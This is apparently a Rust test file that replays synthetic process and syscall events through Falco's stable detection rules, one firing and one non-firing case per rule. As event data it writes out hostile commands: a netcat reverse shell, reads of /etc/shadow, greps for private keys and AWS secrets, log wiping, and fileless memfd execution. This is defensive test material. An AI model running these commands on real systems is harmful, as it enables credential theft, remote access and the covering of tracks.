//! Every rule of Falco's stable file that can fire outside Kubernetes, on
//! synthetic event streams shaped like the recorder's rows: one positive and
//! one negative case each, through the real engine and state model.
//!
//! The same behaviours are scripted in `fixtures/scenarios/falco/*.sh` for
//! recording with the real recorder.

use std::path::PathBuf;

use hindsight_format::{Event, event::EventKind};
use hindsight_replay::engine::{Engine, Options};
use hindsight_replay::falco::{self, FalcoRuleSet, output};
use hindsight_replay::lang::SourceFile;
use hindsight_replay::verdict::Verdict;

fn stable() -> FalcoRuleSet {
    let path =
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../fixtures/rules/falco/falco_rules.yaml");
    let file = SourceFile {
        text: std::fs::read_to_string(&path).expect("stable rules"),
        path: "fixtures/rules/falco/falco_rules.yaml".into(),
    };
    falco::compile_files(&[file]).unwrap_or_else(|d| panic!("{d:?}"))
}

const CONTAINER: &str = "3f1a6c2d9e8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f";

/// A process as the recorder describes it on each of its rows.
#[derive(Clone)]
struct P {
    pid: i32,
    ppid: i32,
    comm: &'static str,
    exe: &'static str,
    argv: Vec<&'static str>,
    uid: u32,
    user: &'static str,
    tty: u32,
    cwd: &'static str,
    container: Option<&'static str>,
}

fn p(pid: i32, ppid: i32, comm: &'static str, exe: &'static str, argv: &[&'static str]) -> P {
    P {
        pid,
        ppid,
        comm,
        exe,
        argv: argv.to_vec(),
        uid: 0,
        user: "root",
        tty: 0,
        cwd: "/root",
        container: None,
    }
}

/// Builds a stream of rows in `seq` order, 1 ms apart.
#[derive(Default)]
struct Stream {
    events: Vec<Event>,
    time_ns: i64,
}

impl Stream {
    fn new() -> Stream {
        let mut s = Stream {
            events: Vec::new(),
            time_ns: 1_700_000_000_000_000_000,
        };
        s.row(
            &p(1, 0, "systemd", "/usr/lib/systemd/systemd", &["/sbin/init"]),
            EventKind::ProcessSnapshot,
            None,
        );
        s.row(
            &p(100, 1, "bash", "/usr/bin/bash", &["-bash"]),
            EventKind::ProcessSnapshot,
            None,
        );
        s
    }

    fn advance(&mut self, ns: i64) {
        self.time_ns += ns;
    }

    fn row(&mut self, p: &P, kind: EventKind, syscall: Option<&str>) -> &mut Event {
        self.time_ns += 1_000_000;
        let ev = Event {
            time_ns: self.time_ns,
            seq: self.events.len() as u64,
            host_name: "testhost".into(),
            boot_id: "b00t".into(),
            event_kind: kind,
            syscall: syscall.map(str::to_string),
            process_pid: p.pid,
            thread_id: p.pid,
            process_parent_pid: Some(p.ppid),
            process_vpid: Some(p.pid),
            process_session_id: Some(100),
            process_tty: Some(p.tty),
            process_name: Some(p.comm.into()),
            process_executable: Some(p.exe.into()),
            process_args: Some(p.argv.iter().map(|s| s.to_string()).collect()),
            process_command_line: Some(p.argv.join(" ")),
            process_cwd: Some(p.cwd.into()),
            user_id: Some(p.uid),
            user_name: Some(p.user.into()),
            group_id: Some(p.uid),
            process_effective_user_id: Some(p.uid),
            login_uid: Some(1000),
            container_id: p.container.map(str::to_string),
            ..Event::default()
        };
        self.events.push(ev);
        self.events.last_mut().expect("pushed")
    }

    /// fork + exec of `p` (its parent must exist).
    fn spawn(&mut self, p: &P) {
        let parent = P {
            pid: p.pid,
            ppid: p.ppid,
            ..p.clone()
        };
        let fork = self.row(&parent, EventKind::ProcessFork, Some("clone"));
        fork.ret = Some(0);
        fork.process_name = None;
        fork.process_executable = None;
        fork.process_args = None;
        fork.process_command_line = None;
        let exec = self.row(p, EventKind::ProcessExec, Some("execve"));
        exec.ret = Some(0);
        exec.file_path = Some(p.exe.into());
    }

    fn open(&mut self, p: &P, path: &str, user_path: &str, flags: &str, ret: i64) {
        let e = self.row(p, EventKind::Syscall, Some("openat"));
        e.file_path = Some(path.into());
        e.file_path_user = Some(user_path.into());
        e.file_flags = Some(flags.into());
        e.ret = Some(ret);
        if ret >= 0 {
            e.fd = Some(ret as i32);
            e.fd_type = Some("file".into());
        }
    }

    fn sys(&mut self, p: &P, syscall: &str, ret: i64, f: impl FnOnce(&mut Event)) {
        let e = self.row(p, EventKind::Syscall, Some(syscall));
        e.ret = Some(ret);
        f(e);
    }
}

fn replay(set: &FalcoRuleSet, s: &Stream) -> Vec<Verdict> {
    let rules: Vec<_> = set.rules.iter().map(|r| r.rule.clone()).collect();
    let engine = Engine::new(&rules).expect("rules compile for evaluation");
    let mut r = engine.replay("synthetic", Options::default());
    for e in &s.events {
        r.push(e);
    }
    r.finish().verdicts
}

/// Runs `scenario(positive)` for both cases and checks that `rule` fires only
/// on the positive one. Returns the positive verdicts of `rule`, summarised.
fn case(set: &FalcoRuleSet, rule: &str, scenario: impl Fn(&mut Stream, bool)) -> String {
    assert!(set.rule(rule).is_some(), "no rule {rule}");
    let mut pos = Stream::new();
    scenario(&mut pos, true);
    let mut neg = Stream::new();
    scenario(&mut neg, false);
    let fired = replay(set, &pos);
    let hits: Vec<&Verdict> = fired.iter().filter(|v| v.rule == rule).collect();
    assert!(
        !hits.is_empty(),
        "{rule}: did not fire on the positive case; fired: {:?}",
        names(&fired)
    );
    let missed = replay(set, &neg);
    assert!(
        missed.iter().all(|v| v.rule != rule),
        "{rule}: fired on the negative case"
    );
    let template = &set.rule(rule).expect("rule").template;
    hits.iter()
        .map(|v| {
            let (text, _) = output::render_output(template, v);
            format!(
                "[{}] seq {} pid {} {}: {text}",
                v.priority, v.seq, v.pid, v.rule
            )
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn names(v: &[Verdict]) -> Vec<&str> {
    v.iter().map(|v| v.rule.as_str()).collect()
}

fn in_container(mut p: P) -> P {
    p.container = Some(CONTAINER);
    p
}

#[test]
fn stable_rules_positive_and_negative() {
    let set = stable();
    let mut out = Vec::new();

    out.push(case(
        &set,
        "Directory traversal monitored file read",
        |s, pos| {
            let perl = p(
                200,
                100,
                "perl",
                "/usr/bin/perl",
                &["perl", "-e", "system(...)"],
            );
            let cat = p(
                201,
                200,
                "cat",
                "/usr/bin/cat",
                &["cat", "/etc/../etc/../etc/hostname"],
            );
            s.spawn(&perl);
            s.spawn(&cat);
            let raw = if pos {
                "/etc/../etc/../etc/hostname"
            } else {
                "/etc/hostname"
            };
            s.open(&cat, "/etc/hostname", raw, "O_RDONLY", 3);
        },
    ));

    out.push(case(
        &set,
        "Read sensitive file trusted after startup",
        |s, pos| {
            let nginx = p(
                210,
                1,
                "nginx",
                "/tmp/hs/nginx",
                &["nginx", "-c", "sleep 6"],
            );
            s.spawn(&nginx);
            s.advance(if pos { 6_000_000_000 } else { 1_000_000_000 });
            s.open(&nginx, "/etc/shadow", "/etc/shadow", "O_RDONLY", 3);
        },
    ));

    out.push(case(&set, "Read sensitive file untrusted", |s, pos| {
        let reader = if pos {
            p(
                220,
                100,
                "python3",
                "/usr/bin/python3.11",
                &["python3", "-c", "open('/etc/shadow')"],
            )
        } else {
            p(
                220,
                100,
                "bash",
                "/usr/bin/bash",
                &["bash", "-c", "read x < /etc/shadow"],
            )
        };
        s.spawn(&reader);
        s.open(
            &reader,
            "/etc/shadow",
            "/etc/shadow",
            "O_RDONLY|O_CLOEXEC",
            3,
        );
    }));

    out.push(case(&set, "Run shell untrusted", |s, pos| {
        let server = if pos {
            p(
                230,
                1,
                "httpd",
                "/tmp/hs/httpd",
                &["httpd", "-c", "/bin/sh -c true; true"],
            )
        } else {
            p(
                230,
                1,
                "notaserver",
                "/tmp/hs/notaserver",
                &["notaserver", "-c", "/bin/sh -c true; true"],
            )
        };
        s.spawn(&server);
        s.spawn(&p(
            231,
            230,
            "sh",
            "/usr/bin/dash",
            &["/bin/sh", "-c", "true"],
        ));
    }));

    out.push(case(&set, "System user interactive", |s, pos| {
        let mut login = if pos {
            p(240, 100, "login", "/tmp/hs/login", &["/tmp/hs/login"])
        } else {
            p(240, 100, "true", "/usr/bin/true", &["/usr/bin/true"])
        };
        login.uid = 65534;
        login.user = "nobody";
        s.spawn(&login);
    }));

    out.push(case(&set, "Terminal shell in container", |s, pos| {
        let shim = in_container(p(
            250,
            1,
            "containerd-shim",
            "/tmp/hs/containerd-shim",
            &["containerd-shim"],
        ));
        let mut shell = in_container(p(251, 250, "bash", "/usr/bin/bash", &["bash"]));
        shell.tty = if pos { 34816 } else { 0 };
        s.spawn(&shim);
        s.spawn(&shell);
    }));

    out.push(case(
        &set,
        "Netcat Remote Code Execution in Container",
        |s, pos| {
            let argv: &[&'static str] = if pos {
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]
            } else {
                &["nc", "-l", "4444"]
            };
            s.spawn(&in_container(p(260, 1, "nc", "/usr/bin/nc", argv)));
        },
    ));

    out.push(case(&set, "Search Private Keys or Passwords", |s, pos| {
        let argv: &[&'static str] = if pos {
            &["grep", "-r", "BEGIN RSA PRIVATE", "/tmp/hs"]
        } else {
            &["grep", "-r", "hello", "/tmp/hs"]
        };
        s.spawn(&p(270, 100, "grep", "/usr/bin/grep", argv));
    }));

    out.push(case(&set, "Clear Log Activities", |s, pos| {
        let sh = p(
            280,
            100,
            "bash",
            "/usr/bin/bash",
            &["bash", "-c", ": > /var/log/syslog"],
        );
        s.spawn(&sh);
        let flags = if pos {
            "O_WRONLY|O_CREAT|O_TRUNC"
        } else {
            "O_WRONLY|O_CREAT|O_APPEND"
        };
        s.open(&sh, "/var/log/syslog", "/var/log/syslog", flags, 3);
    }));

    out.push(case(&set, "Remove Bulk Data from Disk", |s, pos| {
        let tool = if pos {
            p(
                290,
                100,
                "shred",
                "/usr/bin/shred",
                &["shred", "-u", "/tmp/hs/junk"],
            )
        } else {
            p(290, 100, "rm", "/usr/bin/rm", &["rm", "/tmp/hs/junk"])
        };
        s.spawn(&tool);
    }));

    out.push(case(
        &set,
        "Create Symlink Over Sensitive Files",
        |s, pos| {
            let ln = p(
                300,
                100,
                "ln",
                "/usr/bin/ln",
                &["ln", "-s", "/etc/shadow", "/tmp/hs/link"],
            );
            s.spawn(&ln);
            let target = if pos { "/etc/shadow" } else { "/etc/hostname" };
            s.sys(&ln, "symlinkat", 0, |e| {
                e.syscall_args = Some(format!(
                    "target={target} linkdirfd=-100(AT_FDCWD) linkpath=/tmp/hs/link"
                ));
                e.file_path = Some(target.into());
                e.file_target_path = Some("/tmp/hs/link".into());
            });
        },
    ));

    out.push(case(
        &set,
        "Create Hardlink Over Sensitive Files",
        |s, pos| {
            let ln = p(
                310,
                100,
                "ln",
                "/usr/bin/ln",
                &["ln", "/etc/shadow", "/tmp/hs/hard"],
            );
            s.spawn(&ln);
            let old = if pos { "/etc/shadow" } else { "/tmp/hs/plain" };
            s.sys(&ln, "linkat", 0, |e| {
                e.file_path = Some(old.into());
                e.file_target_path = Some("/tmp/hs/hard".into());
            });
        },
    ));

    out.push(case(
        &set,
        "Packet socket created in container",
        |s, pos| {
            let py = in_container(p(
                320,
                1,
                "python3",
                "/usr/bin/python3.11",
                &["python3", "-c", "socket(AF_PACKET)"],
            ));
            s.spawn(&py);
            let domain = if pos { "AF_PACKET" } else { "AF_INET" };
            s.sys(&py, "socket", 3, |e| {
                e.fd = Some(3);
                e.syscall_args = Some(format!("domain={domain} type=SOCK_RAW proto=768"));
            });
        },
    ));

    out.push(case(
        &set,
        "Redirect STDOUT/STDIN to Network Connection in Container",
        |s, pos| {
            let sh = in_container(p(330, 1, "bash", "/usr/bin/bash", &["bash", "-i"]));
            s.spawn(&sh);
            s.sys(&sh, "dup2", 1, |e| {
                e.fd = Some(1);
                e.fd_type = Some(if pos { "ipv4" } else { "file" }.into());
                e.destination_ip = Some("10.0.0.9".into());
                e.destination_port = Some(4444);
            });
        },
    ));

    out.push(case(&set, "PTRACE attached to process", |s, pos| {
        let tracer = p(
            340,
            100,
            "strace",
            "/usr/bin/strace",
            &["strace", "-p", "341"],
        );
        s.spawn(&tracer);
        let req = if pos {
            "PTRACE_SEIZE"
        } else {
            "PTRACE_PEEKDATA"
        };
        s.sys(&tracer, "ptrace", 0, |e| {
            e.syscall_args = Some(format!("request={req} pid=341"))
        });
    }));

    out.push(case(&set, "PTRACE anti-debug attempt", |s, pos| {
        let py = p(
            350,
            100,
            "python3",
            "/usr/bin/python3.11",
            &["python3", "-c", "ptrace(TRACEME)"],
        );
        s.spawn(&py);
        let req = if pos {
            "PTRACE_TRACEME"
        } else {
            "PTRACE_PEEKDATA"
        };
        s.sys(&py, "ptrace", 0, |e| {
            e.syscall_args = Some(format!("request={req} pid=0"))
        });
    }));

    out.push(case(&set, "Find AWS Credentials", |s, pos| {
        let argv: &[&'static str] = if pos {
            &["grep", "-r", "aws_secret_access_key", "/tmp/hs"]
        } else {
            &["grep", "-r", "aws_region", "/tmp/hs"]
        };
        s.spawn(&p(360, 100, "grep", "/usr/bin/grep", argv));
    }));

    out.push(case(&set, "Execution from /dev/shm", |s, pos| {
        let exe = if pos {
            "/dev/shm/hs-true"
        } else {
            "/tmp/hs/hs-true"
        };
        let mut proc = p(370, 100, "hs-true", exe, &["hs-true"]);
        proc.argv = vec![exe];
        proc.cwd = "/tmp";
        s.spawn(&proc);
    }));

    out.push(case(
        &set,
        "Disallowed SSH Connection Non Standard Port",
        |s, pos| {
            let ssh = p(
                380,
                100,
                "ssh",
                "/usr/bin/ssh",
                &["ssh", "-p", "443", "198.51.100.7"],
            );
            s.spawn(&ssh);
            s.sys(&ssh, "connect", -115, |e| {
                e.fd = Some(3);
                e.fd_type = Some("ipv4".into());
                e.network_family = Some("AF_INET".into());
                e.network_transport = Some("tcp".into());
                e.source_ip = Some("192.168.1.5".into());
                e.source_port = Some(51000);
                e.destination_ip = Some("198.51.100.7".into());
                e.destination_port = Some(if pos { 443 } else { 22 });
            });
        },
    ));

    out.push(case(
        &set,
        "Fileless execution via memfd_create",
        |s, pos| {
            let exe = if pos {
                "/memfd:payload (deleted)"
            } else {
                "/usr/bin/true"
            };
            s.spawn(&p(390, 100, "3", exe, &["payload"]));
        },
    ));

    insta::assert_snapshot!(out.join("\n"));
}

#[test]
fn falco_json_alert() {
    let set = stable();
    let mut s = Stream::new();
    let reader = p(
        220,
        100,
        "python3",
        "/usr/bin/python3.11",
        &["python3", "-c", "open('/etc/shadow')"],
    );
    s.spawn(&reader);
    s.open(
        &reader,
        "/etc/shadow",
        "/etc/shadow",
        "O_RDONLY|O_CLOEXEC",
        3,
    );
    let v = replay(&set, &s);
    let v = v
        .iter()
        .find(|v| v.rule == "Read sensitive file untrusted")
        .expect("fired");
    let json = output::falco_json(&set.rule(&v.rule).expect("rule").template, v);
    insta::assert_snapshot!(serde_json::to_string_pretty(&json).expect("json"));
}
